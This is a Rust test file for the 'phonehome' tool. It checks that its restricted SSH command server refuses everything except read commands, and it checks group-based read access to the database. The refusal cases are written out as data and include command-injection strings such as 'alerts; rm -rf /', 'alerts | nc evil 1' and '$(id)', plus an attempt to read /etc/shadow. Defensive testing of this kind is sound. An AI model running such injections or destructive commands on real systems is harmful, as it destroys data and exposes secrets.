//! `phonehome ssh-serve` as sshd runs it for a restricted key (`SSH_ORIGINAL_COMMAND` set):
//! every refusal exits 2 with a message on stderr and runs nothing; allowed read commands run
//! on the configured database. Then group read access: a `phonehome-logs` member reads the
//! database the daemon's user writes, an outsider cannot (root only: setpriv on numeric ids).

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use assert_cmd::prelude::*;

fn config(dir: &Path) -> PathBuf {
    let cfg = dir.join("phonehome.toml");
    if !cfg.exists() {
        std::fs::write(&cfg, "").unwrap();
    }
    cfg
}

fn with_db(dir: &Path) -> Command {
    let mut c = Command::cargo_bin("phonehome").unwrap();
    c.env_remove("PHONEHOME_DB")
        .env_remove("SSH_ORIGINAL_COMMAND")
        .env("PHONEHOME_CONFIG", config(dir))
        .env("PHONEHOME_DB", dir.join("t.db"));
    c
}

fn analyzed() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("demo.pcap");
    std::fs::write(&pcap, phonehome::synth::demo_capture()).unwrap();
    with_db(dir.path())
        .arg("analyze")
        .arg(&pcap)
        .assert()
        .success();
    dir
}

/// `phonehome ssh-serve` with `request` as sshd would pass it.
fn serve(dir: &Path, request: &str) -> Output {
    with_db(dir)
        .arg("ssh-serve")
        .env("SSH_ORIGINAL_COMMAND", request)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

fn refused(dir: &Path, request: &str, says: &str) {
    let out = serve(dir, request);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{request:?} was not refused: {err}"
    );
    assert!(out.stdout.is_empty(), "{request:?} printed on stdout");
    assert!(
        err.starts_with("phonehome ssh-serve: "),
        "{request:?}: {err}"
    );
    assert!(
        err.contains(says),
        "{request:?}: expected {says:?} in {err}"
    );
}

#[test]
fn refuses_everything_but_the_read_commands() {
    let dir = analyzed();
    let before = std::fs::read(dir.path().join("t.db")).unwrap();
    for (request, says) in [
        ("", "no command given"),
        ("phonehome", "no command given"),
        ("   ", "no command given"),
        ("run", "`run` is not a read command"),
        ("phonehome run --iface br0", "`run` is not a read command"),
        ("analyze /tmp/x.pcap", "`analyze` is not a read command"),
        ("evidence 1 -o -", "`evidence` is not a read command"),
        ("demo", "`demo` is not a read command"),
        (
            "display --png /tmp/x.png",
            "`display` is not a read command",
        ),
        ("ap render", "`ap` is not a read command"),
        ("ssh-serve", "`ssh-serve` is not a read command"),
        ("rm -rf /", "`rm` is not a read command"),
        ("/usr/bin/phonehome alerts", "is not a read command"),
        ("backup /tmp/audit.db", "backup writes only to stdout"),
        ("backup - --force", "backup writes only to stdout"),
        ("backup", "error:"),
        ("--db /tmp/other.db alerts", "`--db` is not allowed"),
        ("alerts --db=/tmp/other.db", "`--db` is not allowed"),
        ("alerts --config /etc/shadow", "`--config` is not allowed"),
        ("status --config=/x.toml", "`--config` is not allowed"),
        ("alerts; rm -rf /", "character ';' is not allowed"),
        ("alerts && id", "character '&' is not allowed"),
        ("alerts | nc evil 1", "character '|' is not allowed"),
        ("alerts $(id)", "character '$' is not allowed"),
        ("alerts `id`", "character '`' is not allowed"),
        ("alerts --since \\1d", "character '\\' is not allowed"),
        ("alerts\nrun", "control characters"),
        ("alerts --since '1d", "unbalanced quotes"),
        ("alerts --since \"1d", "unbalanced quotes"),
        (
            "alerts --no-such-flag",
            "unexpected argument '--no-such-flag'",
        ),
    ] {
        refused(dir.path(), request, says);
    }
    // The usage lists what is allowed.
    let usage = String::from_utf8_lossy(&serve(dir.path(), "").stderr).into_owned();
    for c in [
        "alerts",
        "dns",
        "report",
        "export",
        "status",
        "leds",
        "backup - > audit.db",
    ] {
        assert!(usage.contains(c), "{usage}");
    }
    for c in ["analyze", "evidence", "demo", "display", "{run"] {
        assert!(!usage.contains(c), "{usage}");
    }
    // A request over the limit, even of allowed words, is refused before it is split.
    let long = format!("alerts --since 1d{}", " --json".repeat(200));
    refused(dir.path(), &long, "longer than 1024 bytes");
    let many = format!("alerts{}", " --json".repeat(40));
    refused(dir.path(), &many, "more than 32 words");
    // Nothing was written by any of it.
    assert_eq!(std::fs::read(dir.path().join("t.db")).unwrap(), before);
}

fn ok_stdout(dir: &Path, request: &str) -> String {
    let out = serve(dir, request);
    assert!(
        out.status.success(),
        "{request:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn runs_the_read_commands_on_the_configured_database() {
    let dir = analyzed();
    let direct = with_db(dir.path())
        .args(["dns", "--json"])
        .output()
        .unwrap();
    // With or without the program name, quoted or not: the same words.
    for request in [
        "phonehome dns --json",
        "dns --json",
        "'dns' \"--json\"",
        "  dns   --json  ",
    ] {
        assert_eq!(
            ok_stdout(dir.path(), request).as_bytes(),
            direct.stdout,
            "{request}"
        );
    }
    // A quoted argument with a space stays one word (and is a MAC error, not two words).
    let out = serve(dir.path(), "dns --device '04:f1 28'");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a MAC address: 04:f1 28"));
    // Globs are not expanded.
    let out = serve(dir.path(), "dns --device *");
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a MAC address: *"));

    assert!(ok_stdout(dir.path(), "alerts --since '2024-03-14T00:00:00Z'").contains("pii_leak"));
    assert!(ok_stdout(dir.path(), "report").contains("== Device …3a7e"));
    assert!(ok_stdout(dir.path(), "export").contains("\"table\":\"devices\""));
    assert!(ok_stdout(dir.path(), "status --json").contains("\"schema_version\""));
    assert!(ok_stdout(dir.path(), "phonehome leds").contains("red"));
    assert!(ok_stdout(dir.path(), "alerts --help").contains("Usage: phonehome alerts"));
    let backup = serve(dir.path(), "phonehome backup -");
    assert!(backup.status.success());
    assert!(backup.stdout.starts_with(b"SQLite format 3\0"));
}

// ---- group read access (root) ----

/// Numeric ids no account on the host uses: the daemon's user, the `phonehome-logs` group,
/// a member of it, and an outsider.
const DAEMON: u32 = 64_101;
const LOGS: u32 = 64_102;
const MEMBER: u32 = 64_103;
const OUTSIDER: u32 = 64_104;

fn root_or_skip() -> bool {
    if !nix::unistd::geteuid().is_root() {
        println!("skipped: group read access needs root (setpriv, chown)");
        return false;
    }
    if Command::new("setpriv").arg("--version").output().is_err() {
        println!("skipped: setpriv (util-linux) is not installed");
        return false;
    }
    true
}

/// The phonehome binary run as `uid`, primary group `gid`, supplementary `groups`.
fn as_user(uid: u32, gid: u32, groups: &[u32], dir: &Path) -> Command {
    let mut c = Command::new("setpriv");
    c.arg(format!("--reuid={uid}"))
        .arg(format!("--regid={gid}"));
    if groups.is_empty() {
        c.arg("--clear-groups");
    } else {
        let g: Vec<String> = groups.iter().map(u32::to_string).collect();
        c.arg(format!("--groups={}", g.join(",")));
    }
    c.arg(assert_cmd::cargo::cargo_bin("phonehome"))
        .env_remove("SSH_ORIGINAL_COMMAND")
        .env("PHONEHOME_CONFIG", dir.join("phonehome.toml"))
        .env("PHONEHOME_DB", dir.join("data/phonehome.db"))
        .env("TMPDIR", "/tmp")
        .current_dir("/");
    c
}

/// A data dir like the package makes it: 0750 daemon:phonehome-logs (setgid when `setgid`),
/// inside a world-traversable test dir, with a readable empty config.
fn data_dir(setgid: bool) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(dir.path().join("phonehome.toml"), "").unwrap();
    std::fs::write(
        dir.path().join("demo.pcap"),
        phonehome::synth::demo_capture(),
    )
    .unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::os::unix::fs::chown(&data, Some(DAEMON), Some(LOGS)).unwrap();
    let mode = if setgid { 0o2750 } else { 0o750 };
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(mode)).unwrap();
    dir
}

fn files(dir: &Path) -> String {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir.join("data")).unwrap().flatten() {
        let m = e.metadata().unwrap();
        out.push(format!(
            "{} {:o} {}:{}",
            e.file_name().to_string_lossy(),
            m.mode() & 0o7777,
            m.uid(),
            m.gid()
        ));
    }
    out.sort();
    out.join("; ")
}

fn reads(c: &mut Command) -> Output {
    c.stdin(Stdio::null()).output().unwrap()
}

fn assert_member_reads(dir: &Path, when: &str) {
    for cmd in [&["alerts", "--json"][..], &["status"], &["report"]] {
        let out = reads(as_user(MEMBER, MEMBER, &[LOGS], dir).args(cmd));
        assert!(
            out.status.success(),
            "{when}: member `{}` failed: {} [{}]",
            cmd.join(" "),
            String::from_utf8_lossy(&out.stderr),
            files(dir)
        );
    }
    let backup = reads(as_user(MEMBER, MEMBER, &[LOGS], dir).args(["backup", "-"]));
    assert!(
        backup.status.success(),
        "{when}: backup: {}",
        String::from_utf8_lossy(&backup.stderr)
    );
    assert!(backup.stdout.starts_with(b"SQLite format 3\0"));
    let outsider = reads(as_user(OUTSIDER, OUTSIDER, &[], dir).arg("alerts"));
    assert_eq!(
        outsider.status.code(),
        Some(1),
        "{when}: the outsider read it"
    );
    let err = String::from_utf8_lossy(&outsider.stderr);
    assert!(err.contains("phonehome.db"), "{when}: {err}");
}

#[test]
fn logs_group_reads_while_and_after_the_daemon_writes_setgid_dir() {
    if !root_or_skip() {
        return;
    }
    let dir = data_dir(true);
    let d = dir.path();
    // The daemon's user, not itself in phonehome-logs: the setgid directory gives the group.
    let w = reads(
        as_user(DAEMON, DAEMON, &[], d)
            .arg("analyze")
            .arg(d.join("demo.pcap")),
    );
    assert!(w.status.success(), "{}", String::from_utf8_lossy(&w.stderr));
    let listing = files(d);
    println!("after the writer exited: {listing}");
    for f in ["phonehome.db ", "phonehome.db-shm ", "phonehome.db-wal "] {
        assert!(
            listing.contains(&format!("{f}640 {DAEMON}:{LOGS}")),
            "{f}: {listing}"
        );
    }
    assert_member_reads(d, "writer stopped");

    // While a writer holds the database open and commits (a live store writer thread).
    let db = d.join("data/phonehome.db");
    let writer =
        phonehome::store::Writer::spawn(&db, phonehome::store::WriterConfig::default()).unwrap();
    assert_member_reads(d, "writer running");
    writer.finish().unwrap();
}

#[test]
fn logs_group_reads_a_chgrped_database_in_a_plain_dir() {
    if !root_or_skip() {
        return;
    }
    let dir = data_dir(false);
    let d = dir.path();
    // The daemon's user is a member of phonehome-logs; the admin chgrps the database once.
    let analyze = |d: &Path| {
        let w = reads(
            as_user(DAEMON, DAEMON, &[LOGS], d)
                .arg("analyze")
                .arg(d.join("demo.pcap")),
        );
        assert!(w.status.success(), "{}", String::from_utf8_lossy(&w.stderr));
    };
    analyze(d);
    let db = d.join("data/phonehome.db");
    std::os::unix::fs::chown(&db, None, Some(LOGS)).unwrap();
    println!("after chgrp of the database only: {}", files(d));
    // Its next start gives the kept -wal/-shm the database's group.
    analyze(d);
    let listing = files(d);
    println!("after the writer's next start: {listing}");
    for f in ["phonehome.db-shm ", "phonehome.db-wal "] {
        assert!(
            listing.contains(&format!("{f}640 {DAEMON}:{LOGS}")),
            "{f}: {listing}"
        );
    }
    assert_member_reads(d, "plain dir, writer stopped");
}
